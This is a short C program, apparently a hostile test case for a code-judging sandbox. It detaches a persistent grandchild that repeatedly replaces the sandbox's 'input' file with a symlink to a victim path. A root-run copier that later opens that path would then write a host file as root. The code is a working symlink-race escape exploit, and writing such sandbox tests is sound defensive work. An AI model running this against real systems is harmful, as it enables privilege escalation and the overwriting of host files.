/* Outlives its run and races the judge: a setsid grandchild keeps replacing `input` in the box
 * (its working folder) with a symlink to VICTIM, so that a keeper that copies the next run's
 * files into the box with a plain open follows it and writes a host file as root.
 * Meant for the reduced-isolation mode (a plain folder box, no pid namespace).
 * Harm it must not do: survive the run, or get VICTIM written. */
#include <stdio.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc < 2)
        return 2;
    if (fork() == 0) {
        setsid();
        if (fork() != 0)
            _exit(0);
        for (;;) {
            unlink("input");
            symlink(argv[1], "input");
        }
    }
    printf("planted\n");
    return 0;
}
